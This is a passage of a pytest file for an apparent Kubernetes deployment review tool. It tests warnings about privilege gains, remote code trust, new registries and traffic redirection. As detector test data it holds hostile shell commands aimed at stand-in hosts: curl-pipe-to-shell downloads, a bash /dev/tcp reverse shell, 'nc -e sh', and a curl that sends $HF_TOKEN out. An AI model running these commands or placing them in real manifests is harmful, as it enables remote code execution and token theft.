"""What pods get that they did not have: of the host, of a model's own code, of another registry."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Any

import pytest
from tests.review_rollout.conftest import TODAY

from llmstack.review.assess import assess
from llmstack.review.facts import Facts
from llmstack.review.surroundings import Surroundings

Object = dict[str, Any]
Build = Callable[..., Object]


def _told(result: Any) -> list[tuple[str, str]]:
    return [(str(risk.severity), risk.message) for risk in result.risks if risk.id == "privilege"]


def _with(deployment: Object, pod: Mapping[str, Any] | None = None, **container: Any) -> Object:
    changed = deepcopy(deployment)
    spec = changed["spec"]["template"]["spec"]
    spec.update(pod or {})
    spec["containers"][0].update(container)
    return changed


@pytest.mark.parametrize(
    ("pod", "container", "said"),
    [
        ({"hostNetwork": True, "hostPID": True}, {}, "its pods get `hostNetwork: true`, `hostPID: true`"),
        ({"volumes": [{"name": "v", "hostPath": {"path": "/var/run"}}]}, {}, "its pods get the host's `/var/run`"),
        ({}, {"securityContext": {"privileged": True}}, "its pods get `privileged: true`"),
        ({}, {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}, "its pods get capability `SYS_ADMIN`"),
        (
            {"initContainers": [{"name": "i", "image": "v1", "securityContext": {"privileged": True}}]}, {},
            "its pods get `privileged: true`",
        ),
        ({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, {}, "its pods get `seccompProfile.type: Unconfined`"),
        ({"securityContext": {"sysctls": [{"name": "kernel.msgmax"}]}}, {}, "its pods get the sysctl `kernel.msgmax`"),
        ({}, {"securityContext": {"procMount": "Unmasked"}}, "its pods get `procMount: Unmasked`"),
        ({}, {"ports": [{"containerPort": 1, "hostPort": 2}]}, "its pods get `hostPort: 2`"),
        (
            {"tolerations": [{"key": "node-role.kubernetes.io/control-plane"}]}, {},
            "its pods get a place on nodes of the control plane (`tolerations`)",
        ),
        ({"tolerations": [{"operator": "Exists"}]}, {}, "its pods get a place on nodes of the control plane (`tolerations`)"),
        ({"nodeName": "a"}, {}, "its pods get a node of their choice, whatever taints keep them off it (`nodeName`)"),
        (
            {"volumes": [{"name": "v", "image": {"reference": "registry.example.com/x:1"}}]}, {},
            "it pulls an image from `registry.example.com`, from which nothing here was pulled before",
        ),
        (
            {"serviceAccountName": "strong"}, {},
            "its pods run as ServiceAccount `strong`, which nothing here makes, and may do what that may",
        ),
        (
            {}, {"args": ["--model", "m", "--trust-remote-code"]},
            "it runs the code that its model brings (`--trust-remote-code`)",
        ),
        (
            {}, {"command": ["sh", "-c", "exec vllm serve m --trust_remote_code"]},
            "it runs the code that its model brings (`--trust-remote-code`)",
        ),
        (
            {}, {"image": "registry.example.com/vllm:v1"},
            "it pulls an image from `registry.example.com`, from which nothing here was pulled before",
        ),
    ],
)  # fmt: skip
def test_what_pods_get_is_told_once(pod: Object, container: Object, said: str, review: Any, deployment: Build) -> None:
    plain = deployment()
    mighty = _with(plain, pod, **container)
    assert _told(review((plain, mighty))) == [("warning", said)]
    assert not _told(review((mighty, _with(mighty, {"priorityClassName": "high"})))), "it had that before"
    assert not [message for _, message in _told(review((mighty, plain))) if message == said]


def test_pods_that_keep_to_restricted_no_more_are_told(review: Any, deployment: Build) -> None:
    context = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "runAsNonRoot": True}
    kept = _with(
        deployment(), {"securityContext": {"seccompProfile": {"type": "RuntimeDefault"}}}, securityContext=context
    )
    root = _with(kept, securityContext=context | {"runAsNonRoot": False})
    said = "its pods kept to the Pod Security Standard `restricted`, and do so no more"
    assert _told(review((kept, root))) == [("warning", said)]
    assert not _told(review((root, kept)))
    assert not _told(review((deployment(), _with(deployment(), securityContext={"runAsNonRoot": False}))))


@pytest.mark.parametrize(
    "tolerations",
    [[{"key": "nvidia.com/gpu", "operator": "Exists"}], [{"operator": "Exists", "effect": "NoExecute"}], "x", [5]],
)
def test_tolerations_that_lead_to_no_control_plane(tolerations: Any, review: Any, deployment: Build) -> None:
    assert not _told(review((deployment(), _with(deployment(), {"tolerations": tolerations}))))


def test_an_account_that_is_made_here_is_not_told(review: Any, deployment: Build) -> None:
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "own"}}
    own = _with(deployment(), {"serviceAccountName": "own"})
    assert not _told(review((deployment(), own), (None, account)))
    assert not _told(review((None, own))), "a first environment has nothing to compare with"


@pytest.mark.parametrize(
    ("kept", "lost", "said"),
    [
        ({"hostUsers": False}, {"hostUsers": True}, "had a user namespace of their own (`hostUsers: false`)"),
        ({"runtimeClassName": "kata-qemu"}, {"runtimeClassName": "nvidia"}, "ran in a sandbox (their `runtimeClassName`)"),
        ({"runtimeClassName": "gvisor"}, {"runtimeClassName": None}, "ran in a sandbox (their `runtimeClassName`)"),
        ({"runtimeClassName": "nvidia"}, {"runtimeClassName": None}, ""),
        ({"hostUsers": None}, {"hostUsers": True}, ""),
        ({"automountServiceAccountToken": False}, {}, "had no token of their account (`automountServiceAccountToken: false`)"),
        ({}, {"automountServiceAccountToken": True}, ""),
    ],
)  # fmt: skip
def test_what_kept_pods_from_the_node_and_goes(
    kept: Object, lost: Object, said: str, review: Any, deployment: Build
) -> None:
    told = _told(review((_with(deployment(), kept), _with(deployment(), lost))))
    assert told == ([("warning", f"its pods {said}, and do so no more")] if said else [])


@pytest.mark.parametrize(
    ("before", "after", "is_told"),
    [(False, None, True), (False, True, True), (None, True, False), (True, False, False)],
)
def test_an_account_whose_pods_begin_to_get_its_token(
    before: bool | None, after: bool | None, is_told: bool, review: Any, deployment: Build
) -> None:
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "own"}}
    sides = [account | ({"automountServiceAccountToken": each} if each is not None else {}) for each in (before, after)]
    told = _told(review((deployment(), deployment()), (sides[0], sides[1])))
    assert [said.partition(" from now on")[0] for _, said in told] == ["pods that run as it get its token"] * is_told


HOST = {"containers": [{"name": "c", "image": "v1"}], "volumes": [{"name": "h", "hostPath": {"path": "/etc"}}]}


def _item(kind: str, api: str, metadata: Object | None = None, **fields: Any) -> Object:
    return {"apiVersion": api, "kind": kind, "metadata": {"name": "x", **(metadata or {})}, **fields}


_ETC = "its pods get the host's `/etc`"
_ELSEWHERE = "it pulls an image from `a.example`, from which nothing here was pulled before"
BINDING = {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": []}


@pytest.mark.parametrize(
    ("item", "said"),
    [
        (_item("PodTemplate", "v1", template={"spec": HOST}), _ETC),
        (_item("ReplicationController", "v1", spec={"template": {"spec": HOST}}), _ETC),
        (_item("JobSet", "jobset.x-k8s.io/v1alpha2", spec={"replicatedJobs": [{"template": {"spec": {"template": {"spec": HOST}}}}]}), _ETC),
        (_item("Job", "batch.volcano.sh/v1alpha1", spec={"tasks": [{"template": {"spec": HOST}}]}), _ETC),
        (_item("Rollout", "argoproj.io/v1alpha1", spec={"template": {"spec": HOST}}), _ETC),
        (_item("Workflow", "argoproj.io/v1alpha1", spec={"templates": [{"script": {"image": "a.example/x"}}]}), _ELSEWHERE),
        (_item("TaskRun", "tekton.dev/v1", spec={"taskSpec": {"steps": [{"image": "a.example/x"}]}}), _ELSEWHERE),
        (_item("Service", "serving.knative.dev/v1", spec={"template": {"spec": {"containers": [{"image": "a.example/x"}]}}}), _ELSEWHERE),
        (
            _item("InferenceService", "serving.kserve.io/v1beta1", spec={"predictor": {"hostNetwork": True, "model": {}}}),
            "its pods get `hostNetwork: true`",
        ),
        (
            _item("Object", "kubernetes.crossplane.io/v1alpha2", spec={"forProvider": {"manifest": _item(
                "ClusterRoleBinding", "rbac.authorization.k8s.io/v1", **BINDING)}}),
            "it holds ClusterRoleBinding/x: it gives ClusterRole `cluster-admin` to nobody",
        ),
        (
            _item("ResourceClaim", "resource.k8s.io/v1", spec={"devices": {"requests": [{"exactly": {"adminAccess": True}}]}}),
            "its pods get devices that others hold (`adminAccess: true`)",
        ),
        (
            _item("Secret", "v1", {"annotations": {"kubernetes.io/service-account.name": "a"}}, type="kubernetes.io/service-account-token"),
            "it is filled with a token of ServiceAccount `a` that does not expire",
        ),
        (
            _item("ReferenceGrant", "gateway.networking.k8s.io/v1beta1", spec={
                "from": [{"kind": "HTTPRoute", "namespace": "b"}], "to": [{"kind": "Secret"}, {"kind": "Service"}]}),
            "HTTPRoutes of namespace `b` may use what is here (Secret, Service)",
        ),
        (
            _item("Service", "v1", spec={"externalIPs": ["192.0.2.1"]}),
            "it opens what it selects to callers outside the cluster (externalIPs 192.0.2.1)",
        ),
        (
            _item("Service", "v1", spec={"type": "ExternalName", "externalName": "a.example"}),
            "what calls it reaches `a.example` (ExternalName)",
        ),
        (
            _item("EndpointSlice", "discovery.k8s.io/v1", {"labels": {"kubernetes.io/service-name": "s"}}, endpoints=[{"addresses": ["192.0.2.1"]}]),
            "what calls Service `s` reaches `192.0.2.1`",
        ),
        (_item("Endpoints", "v1", subsets=[{"addresses": [{"ip": "192.0.2.1"}]}]), "what calls Service `x` reaches `192.0.2.1`"),
        (
            _item("ConfigMap", "v1", {"namespace": "kube-system"}, data={"a": "b"}),
            "it stands in namespace `kube-system`, where the cluster's own parts find their settings",
        ),
        (
            _item("ClusterPolicy", "kyverno.io/v1", spec={}),
            "a policy engine changes or refuses by it what is written to the cluster, or lets it pass",
        ),
        (
            _item("ConfigMap", "v1", {"name": "argocd-rbac-cm", "namespace": "argocd"}, data={"policy.default": "role:admin"}),
            "it holds settings of Argo CD: who may do what with it, and which programs it runs",
        ),
        (_item("ConfigMap", "v1", data={"image": "a.example/x", "volumes": "[]"}), ""),
        (_item("ServiceMonitor", "monitoring.coreos.com/v1", spec={"selector": {}, "endpoints": [{"port": "x"}]}), ""),
        (_item("ScaledObject", "keda.sh/v1alpha1", spec={"scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "m"}}), ""),
        (_item("Service", "v1", spec={"type": "ClusterIP", "ports": [{"port": 80}]}), ""),
    ],
)  # fmt: skip
def test_what_an_object_of_another_kind_brings(item: Object, said: str, review: Any, deployment: Build) -> None:
    """Kinds that the review does not play, and that open something all the same."""
    stays = deployment(image="docker.io/v1")
    told = [message for _, message in _told(review((None, item), stays=[stays]))]
    assert told == ([said] if said else [])
    assert not _told(
        review(
            (
                item,
                item
                | {
                    "metadata": item["metadata"]
                    | {"annotations": {"b": "c", **item["metadata"].get("annotations", {})}}
                },
            ),
            stays=[stays],
        )
    )


@pytest.mark.parametrize(
    ("spec", "is_told"),
    [({"type": "ExternalName", "externalName": "a.example"}, True), ({"type": "LoadBalancer"}, False)],
)
def test_what_a_first_environment_leads_elsewhere_is_told(
    spec: Object, is_told: bool, review: Any, deployment: Build
) -> None:
    """It may let callers in as it likes; names that lead out of the cluster are nobody's way in."""
    assert bool(_told(review((None, deployment()), (None, _item("Service", "v1", spec=spec))))) is is_told


@pytest.mark.parametrize(
    ("pod", "container", "said"),
    [
        ({"hostAliases": [{"ip": "192.0.2.1", "hostnames": ["hub.example"]}]}, {}, "`hub.example` at `192.0.2.1` (`hostAliases`)"),
        ({"dnsConfig": {"nameservers": ["192.0.2.1"]}}, {}, "the name server `192.0.2.1` (`dnsConfig`)"),
        ({}, {"env": [{"name": "HF_ENDPOINT", "value": "https://a.example"}]}, "`HF_ENDPOINT: https://a.example`, by which they fetch from elsewhere"),
        ({}, {"env": [{"name": "https_proxy", "value": "http://a.example"}]}, "`https_proxy: http://a.example`, by which they fetch from elsewhere"),
        ({}, {"env": [{"name": "LD_PRELOAD", "value": "/v/x.so"}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "BASH_ENV", "value": "/v/x.sh"}]}, "`BASH_ENV`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "/models/lib:/usr/lib"}]}, "`LD_LIBRARY_PATH: /models/lib:/usr/lib`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "/usr/local/nvidia/lib64:/opt/x:$(LD_LIBRARY_PATH)"}]}, ""),
        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "$(ELSE):/usr/lib"}]}, "`LD_LIBRARY_PATH: $(ELSE):/usr/lib`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "LD_LIBRARY_PATH", "value": "/usr/../models"}]}, "`LD_LIBRARY_PATH: /usr/../models`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "AWS_ENDPOINT_URL", "value": "https://a.example"}]}, "`AWS_ENDPOINT_URL: https://a.example`, by which they fetch from elsewhere"),
        ({}, {"env": [{"name": "VLLM_USE_MODELSCOPE", "value": "True"}]}, "`VLLM_USE_MODELSCOPE: True`, by which they fetch from elsewhere"),
        ({}, {"env": [{"name": "VLLM_USE_MODELSCOPE", "value": "false"}]}, ""),
        ({}, {"env": [{"name": "SSL_CERT_FILE", "value": "/v/ca.pem"}]}, "`SSL_CERT_FILE: /v/ca.pem`, by which they believe other certificates"),
        ({}, {"env": [{"name": "CURL_CA_BUNDLE", "value": ""}]}, "`CURL_CA_BUNDLE: `, by which they believe other certificates"),
        ({"dnsConfig": {"searches": ["a.example"]}}, {}, "names of `a.example` for those without a dot (`dnsConfig`)"),
        ({}, {"command": ["sh", "-c", "vllm serve m & nc -e sh a.example 1"]}, "what `a.example` answers to their commands"),
        ({}, {"args": ["serve", "m", "--middleware", "a.b"]}, "`--middleware`, by which they run or show what callers or files bring"),
        ({}, {"args": ["serve", "m", "--allowed-local-media-path=/"]}, "`--allowed-local-media-path`, by which they run or show what callers or files bring"),
        ({}, {"env": [{"name": "LD_PRELOAD", "valueFrom": {"secretKeyRef": {}}}]}, "`LD_PRELOAD`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"}]}, "`VLLM_ALLOW_RUNTIME_LORA_UPDATING`, by which they run what their image does not hold"),
        ({}, {"env": [{"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "False"}]}, ""),
        ({}, {"args": ["--distributed-executor-backend", "a.b.C"]}, "`--distributed-executor-backend`, by which they run or show what callers or files bring"),
        ({}, {"args": ["--distributed-executor-backend", "mp", "--enable-sleep-mode"]}, ""),
        ({}, {"args": ["--kv-transfer-config", '{"kv_connector_module_path": "a.b"}']}, "`kv_connector_module_path`, by which they run or show what callers or files bring"),
        ({"volumes": [{"name": "v", "nfs": {"server": "a.example", "path": "/"}}]}, {}, "the files of `a.example` (`nfs`)"),
        ({"volumes": [{"name": "v", "csi": {"driver": "a.example"}}]}, {}, "the files of `a.example` (`csi`)"),
        ({"volumes": [{"name": "v", "emptyDir": {}}, {"name": "w", "nfs": 5}, {"name": "u", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}]}, {}, ""),
        ({"volumes": [{"name": "v", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault"}}]}}]}, {}, "a token of their account for `vault` (`serviceAccountToken`)"),
        ({}, {"env": [{"name": "HF_HOME", "value": "/v"}, {"name": "VLLM_SERVER_DEV_MODE", "value": "0"}]}, ""),
        ({}, {"args": ["serve", "m", "--middleware-x", "a.b"]}, ""),
        ({"hostAliases": 5, "dnsConfig": [1], "volumes": [{"name": "g", "gitRepo": 5}]}, {"env": {"a": "b"}}, ""),
    ],
)  # fmt: skip
def test_what_sends_pods_elsewhere_is_told_once(
    pod: Object, container: Object, said: str, review: Any, deployment: Build
) -> None:
    plain = deployment()
    led = _with(plain, pod, **container)
    expected = [("warning", f"its pods get {said}")] if said else []
    assert _told(review((plain, led))) == expected
    other = deployment("other")
    assert not _told(review((other, _with(other, pod, **container)), stays=[led])), "others did so before"
    assert not _told(review((led, plain)))


_RUNS = "a command that runs what it fetches"
_FETCHES = "what `a.example` answers to their commands"


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("curl -s https://a.example/x | sh; vllm serve m", [_RUNS, _FETCHES]),
        ("wget -qO- a.example/x | sudo bash", [_RUNS, _FETCHES]),
        ("bash <(curl https://u:p@a.example/x)", [_RUNS, _FETCHES]),
        ('eval "$(curl -fsSL https://a.example/x)"', [_RUNS, _FETCHES]),
        ("curl https://huggingface.co/x | sh", [_RUNS]),
        ("bash -i >& /dev/tcp/192.0.2.1/4 0>&1", [_RUNS]),
        ("python3 -c \"exec(urlopen('https://a.example/x').read())\"", [_RUNS, _FETCHES]),
        ("pip install git+https://a.example/x.git", [_FETCHES]),
        ("pip install --index-url http://a.example/simple x", [_FETCHES]),
        ("curl -d $HF_TOKEN https://a.example", [_FETCHES]),
        ("curl -o model.tar/x http://localhost:8000/health", []),
        ("curl -X POST http://127.0.0.1:8000/drain; sleep 10", []),
        ("curl http://router:80/v1/models http://r.llm.svc.cluster.local/v1 http://r.llm.svc:80", []),
        ("pip install vllm[audio]==0.11.0 -r requirements.txt", []),
        ("hf download a/b; git --version; vllm serve m --otlp-traces-endpoint https://a.example", []),
        ("timeout 1 bash -c '</dev/tcp/localhost/8000'", []),
        ("curl " * 20_000, []),
    ],
)
@pytest.mark.parametrize(
    "where",
    [
        lambda words: {"command": words},
        lambda words: {"lifecycle": {"postStart": {"exec": {"command": words}}}},
        lambda words: {"livenessProbe": {"exec": {"command": words}}},
    ],
)
def test_what_commands_fetch_and_run(
    script: str, said: list[str], where: Callable[[list[str]], Object], review: Any, deployment: Build
) -> None:
    plain = deployment(surge=0, unavailable=1)
    fetching = _with(plain, **where(["sh", "-c", script]))
    expected = [("warning", f"its pods get {', '.join(said)}")] if said else []
    assert _told(review((plain, fetching))) == expected
    assert not _told(review((fetching, _with(fetching, {"priorityClassName": "high"})))), "they did so before"


@pytest.mark.parametrize("are_others", [True, False])
def test_a_new_environment_beside_others_is_told_what_none_of_them_did(
    are_others: bool, change: Any, deployment: Build
) -> None:
    led = _with(deployment(), env=[{"name": "HF_ENDPOINT", "value": "https://a.example"}], image="b.example/x")
    there = (deployment("other"),) if are_others else ()
    known = Facts()
    result = assess([change(None, led)], [], [led], known, known, TODAY, near=Surroundings(ran=there))
    assert len(_told(result)) == (2 if are_others else 0)
    env = led["spec"]["template"]["spec"]["containers"][0]["env"]
    same = Surroundings(ran=tuple(_with(each, env=env) for each in there))
    assert len(_told(assess([change(None, led)], [], [led], known, known, TODAY, near=same))) == are_others


def _media(*domains: str) -> list[str]:
    return ["serve", "m", *(("--allowed-media-domains", *domains) if domains else ()), "--port", "8000"]


@pytest.mark.parametrize(
    ("before", "after", "hosts"),
    [
        (["a.example"], ["a.example", "b.example"], "b.example"),
        (["a.example"], [], "every host"),
        (["a.example", "b.example"], ["a.example"], ""),
        ([], ["a.example"], ""),
    ],
)
def test_hosts_that_callers_may_have_an_engine_fetch_from(
    before: list[str], after: list[str], hosts: str, review: Any, deployment: Build
) -> None:
    pods = (_with(deployment(), args=_media(*each)) for each in (before, after))
    said = f"callers may have it fetch from {hosts} too (`--allowed-media-domains`)"
    assert _told(review(tuple(pods))) == ([("warning", said)] if hosts else [])


_STORES = "external-secrets.io/v1"


def _secret_of(store: str, **spec: Any) -> Object:
    return _item("ExternalSecret", _STORES, spec={"secretStoreRef": {"name": store}, **spec})


def _store(kind: str = "SecretStore", **provider: Any) -> Object:
    return _item(kind, _STORES, spec={"provider": provider})


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        (_secret_of("a"), _secret_of("b"), "what it brings comes from elsewhere: SecretStore `b`"),
        (_secret_of("a"), _secret_of("a", data=[{"sourceRef": {"storeRef": {"name": "b"}}}]), "what it brings comes from elsewhere: SecretStore `b`"),
        (_secret_of("a"), _secret_of("a", refreshInterval="1h"), ""),
        (None, _secret_of("a"), ""),
        (_store(vault={"server": "a"}), _store(vault={"server": "b"}), "what it brings comes from elsewhere: `vault` (server: b)"),
        (_store("ClusterSecretStore", aws={}), _store("ClusterSecretStore", gcpsm={}), "what it brings comes from elsewhere: `gcpsm` ()"),
        (None, _store(vault={"server": "a"}), ""),
        (None, _store(webhook={"url": "a"}), "what secrets are is asked of `a` (webhook)"),
        (None, _item("ClusterExternalSecret", _STORES), "it makes Secrets, or sends them on, in every namespace that it selects"),
        (
            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/"}}),
            _item("PersistentVolume", "v1", spec={"nfs": {"server": "b", "path": "/"}}),
            "what it brings comes from elsewhere: the files of `b` (`nfs`)",
        ),
        (
            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/"}}),
            _item("PersistentVolume", "v1", spec={"nfs": {"server": "a", "path": "/b"}}),
            "",
        ),
    ],
)  # fmt: skip
def test_where_secrets_and_files_come_from(
    before: Object | None, after: Object, said: str, review: Any, deployment: Build
) -> None:
    assert _told(review((before, after), stays=[deployment()])) == ([("warning", said)] if said else [])


_ASKING = _item(
    "Ingress", "networking.k8s.io/v1", {"annotations": {"nginx.ingress.kubernetes.io/auth-url": "http://a"}}
)


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        (_item("AuthorizationPolicy", "security.istio.io/v1", spec={}), None, "it goes: what it said"),
        (
            _item("AuthorizationPolicy", "security.istio.io/v1", spec={}),
            _item("AuthorizationPolicy", "security.istio.io/v1", spec={"rules": [{}]}),
            "it says otherwise which calls pass",
        ),
        (None, _item("AuthorizationPolicy", "security.istio.io/v1", spec={}), ""),
        (_item("CiliumNetworkPolicy", "cilium.io/v2", spec={}), None, "it goes: what it said"),
        (None, _item("EnvoyFilter", "networking.istio.io/v1alpha3", spec={}), "the mesh changes by it"),
        (None, _item("PushSecret", "external-secrets.io/v1alpha1", spec={}), "it copies Secrets"),
        (
            None,
            _item("VirtualService", "networking.istio.io/v1", spec={"http": [{"mirror": {"host": "a.example"}}]}),
            "copies of requests go to `a.example`",
        ),
        (
            None,
            _item("Ingress", "networking.k8s.io/v1", {"annotations": {"nginx.ingress.kubernetes.io/server-snippet": "x"}}),
            "its proxy does what `nginx.ingress.kubernetes.io/server-snippet` says",
        ),
        (
            None,
            _item("Ingress", "networking.k8s.io/v1", {"annotations": {"nginx.ingress.kubernetes.io/proxy-body-size": "1m"}}),
            "",
        ),
        (_ASKING, _item("Ingress", "networking.k8s.io/v1"), "it asks callers no more by `nginx.ingress.kubernetes.io/auth-url: http://a`"),
        (_item("Ingress", "networking.k8s.io/v1"), _ASKING, ""),
        (_ASKING, _ASKING | {"spec": {"ingressClassName": "x"}}, ""),
        (
            _item("ServiceAccount", "v1"),
            _item("ServiceAccount", "v1", {"annotations": {"eks.amazonaws.com/role-arn": "a"}}),
            "its pods may act as `a` in the cloud (`eks.amazonaws.com/role-arn`)",
        ),
    ],
)  # fmt: skip
def test_what_stands_between_callers_and_pods(
    before: Any, after: Any, said: str, review: Any, deployment: Build
) -> None:
    told = _told(review((before, after), stays=[deployment()]))
    assert [message.startswith(said) for _, message in told] == ([True] if said else [])


_SHARED = (
    (_item("CSIDriver", "storage.k8s.io/v1", spec={"tokenRequests": [{"audience": "vault"}]}), "the driver gets a token for `vault`"),
    (_item("CSIDriver", "storage.k8s.io/v1", spec={"attachRequired": False}), ""),
    (
        _item("StorageClass", "storage.k8s.io/v1", {"annotations": {"storageclass.kubernetes.io/is-default-class": "true"}}, provisioner="p"),
        "`p` makes the volumes of every claim that names no class",
    ),
    (_item("StorageClass", "storage.k8s.io/v1", provisioner="p"), ""),
    (
        _item("IngressClass", "networking.k8s.io/v1", {"annotations": {"ingressclass.kubernetes.io/is-default-class": "true"}}, spec={"controller": "c"}),
        "`c` serves every Ingress that names no class",
    ),
    (_item("IngressClass", "networking.k8s.io/v1", spec={"controller": "c"}), ""),
    (_item("RuntimeClass", "node.k8s.io/v1", handler="runc"), "pods of every namespace that name this class are run by `runc`"),
    (_item("Node", "v1", spec={"unschedulable": True}), "it says which pods of the whole cluster run on a node"),
    (_item("ClusterIssuer", "cert-manager.io/v1", spec={}), "it issues certificates for every namespace"),
    (_item("Certificate", "cert-manager.io/v1", spec={"isCA": True}), "it asks for a certificate that signs others"),
    (_item("Certificate", "cert-manager.io/v1", spec={"secretName": "tls", "dnsNames": ["a.example"]}), ""),
    (_item("ClusterTrustBundle", "certificates.k8s.io/v1beta1", spec={}), "pods of every namespace that mount it believe"),
    (_item("Lease", "coordination.k8s.io/v1", {"namespace": "kube-system"}, spec={"holderIdentity": "x"}), "it stands in namespace `kube-system`"),
    (_item("Lease", "coordination.k8s.io/v1", {"namespace": "llm"}, spec={"holderIdentity": "x"}), ""),
    (
        _item("SealedSecret", "bitnami.com/v1alpha1", {"annotations": {"sealedsecrets.bitnami.com/cluster-wide": "true"}}, spec={}),
        "who may make objects in any namespace may have it decrypted there",
    ),
    (_item("SealedSecret", "bitnami.com/v1alpha1", spec={}), ""),
    (_item("CiliumClusterwideNetworkPolicy", "cilium.io/v2", spec={}), "it decides which calls pass for pods of every namespace"),
    (_item("CiliumNetworkPolicy", "cilium.io/v2", spec={}), ""),
    (_item("PeerAuthentication", "security.istio.io/v1", spec={"mtls": {"mode": "DISABLE"}}), "pods of the mesh answer callers"),
    (_item("PeerAuthentication", "security.istio.io/v1", spec={"mtls": {"mode": "STRICT"}}), ""),
    (_item("RequestAuthentication", "security.istio.io/v1", spec={"jwtRules": [{"issuer": "i"}]}), "the mesh believes what tokens of `i` say"),
)  # fmt: skip


@pytest.mark.parametrize(("item", "said"), _SHARED)
def test_what_an_object_decides_for_others(item: Object, said: str, review: Any, deployment: Build) -> None:
    told = _told(review((None, item), stays=[deployment()]))
    assert [message.startswith(said) for _, message in told] == ([True] if said else [])
    assert not _told(
        review((item, item | {"metadata": item["metadata"] | {"labels": {"a": "b"}}}), stays=[deployment()])
    )


@pytest.mark.parametrize(
    ("spec", "said"),
    [
        ({"hosts": ["*"]}, ["calls of the mesh to `*` go where it says"]),
        ({"hosts": ["api.pay.svc.cluster.local"]}, ["calls of the mesh to `api.pay.svc.cluster.local` go where it says"]),
        (
            {"hosts": ["m"], "gateways": ["mesh"], "http": [{"route": [{"destination": {"host": "a.example"}}]}]},
            ["calls of the mesh to `m` go to `a.example`"],
        ),
        ({"hosts": ["m"], "http": [{"route": [{"destination": {"host": "m-canary"}}]}]}, []),
        ({"hosts": ["m.llm"], "http": [{"route": [{"destination": {"host": "m.llm.svc.cluster.local"}}]}]}, []),
        ({"hosts": ["a.example"], "gateways": ["istio-system/gw"], "http": [{"route": [{"destination": {"host": "m"}}]}]}, []),
        ({"hosts": 5, "http": [5, {"route": [5, {"destination": []}]}]}, []),
    ],
)  # fmt: skip
def test_where_a_mesh_sends_calls_of_others(spec: Object, said: list[str], review: Any, deployment: Build) -> None:
    route = _item("VirtualService", "networking.istio.io/v1", {"namespace": "llm"}, spec=spec)
    assert [message for _, message in _told(review((None, route), stays=[deployment()]))] == said


def test_a_namespace_of_others_that_is_told_to_let_in_all_pods(review: Any, deployment: Build) -> None:
    space, running = "llm", deployment()
    running["metadata"]["namespace"] = space
    label = {"pod-security.kubernetes.io/enforce": "privileged"}
    written = _item("Namespace", "v1", {"name": space, "labels": label})
    told = _told(review((None, written), stays=[running]))
    assert [message.startswith("the namespace is told to let in every pod") for _, message in told] == [True]
    assert not _told(review((None, _item("Namespace", "v1", {"name": space})), stays=[running]))
    assert not _told(review((None, _item("Namespace", "v1", {"name": "another", "labels": label})), stays=[running]))


def _policy(**spec: Any) -> Object:
    return _item("NetworkPolicy", "networking.k8s.io/v1", spec={"podSelector": {}, **spec})


@pytest.mark.parametrize(
    ("before", "after", "is_told"),
    [
        (_policy(), None, True),
        (_policy(), _policy(ingress=[{}]), True),
        (_policy(), _policy(podSelector={"matchLabels": {"a": "other"}}), True),
        (_policy(policyTypes=["Egress"]), _policy(policyTypes=["Egress"], egress=[{}]), True),
        (_policy(), _policy(ingress=[{"from": [{"podSelector": {}}]}]), False),
        (_policy(), _policy(ingress=[{"ports": [{"port": 8000}]}]), False),
        (_policy(ingress=[{}]), None, False),
        (None, _policy(), False),
    ],
)
def test_pods_that_no_network_policy_keeps_any_more(
    before: Any, after: Any, is_told: bool, review: Any, deployment: Build
) -> None:
    told = [message for _, message in _told(review((before, after), stays=[deployment()]))]
    assert [message.startswith("no NetworkPolicy keeps its pods any more") for message in told] == [True] * is_told


def _joined(name: str, component: str = "engine", **fields: Any) -> Object:
    labels = {"app.kubernetes.io/name": name, "app.kubernetes.io/component": component}
    return _item(
        "Pod", "v1", {"name": "p", "labels": labels}, spec={"containers": [{"name": "c", "image": "v1"}]}, **fields
    )


def _behind(kind: str = "Service", **selector: str) -> Object:
    return _item(kind, "v1", spec={"selector": selector if kind == "Service" else {"matchLabels": selector}})


LLAMA = {"app.kubernetes.io/name": "llama"}


@pytest.mark.parametrize(
    ("services", "pods", "is_told"),
    [
        ([_behind(**LLAMA)] * 2, (None, _joined("llama")), True),
        ([_behind(**LLAMA)] * 2, (_joined("other"), _joined("llama")), True),
        ([_behind("InferencePool", **LLAMA)] * 2, (None, _joined("llama")), True),
        ([_behind(**LLAMA), _behind(**{"app.kubernetes.io/component": "engine"})], (None, _joined("other")), True),
        ([_behind(**LLAMA)] * 2, (None, _joined("other")), False),
        ([_behind(**LLAMA)] * 2, (_joined("llama"), _joined("llama", "router")), False),
        ([None, _behind(**LLAMA)], (None, _joined("llama")), False),
        ([_behind(nobody="here")] * 2, (None, _joined("llama") | {"metadata": {"name": "p", "labels": {"nobody": "here"}}}), False),
    ],
)  # fmt: skip
def test_pods_that_join_those_behind_a_service(
    services: list[Object | None], pods: Any, is_told: bool, review: Any, deployment: Build
) -> None:
    told = _told(review(tuple(services), pods, stays=[deployment()]))
    kind = (services[1] or {})["kind"]
    said = f"its pods get requests of {kind}/x, which others answered alone"
    assert told == ([("warning", said)] if is_told else [])


def _router(*more: str) -> Object:
    args = ["--service-discovery", "k8s", "--k8s-label-selector", "tier=engines", *more]
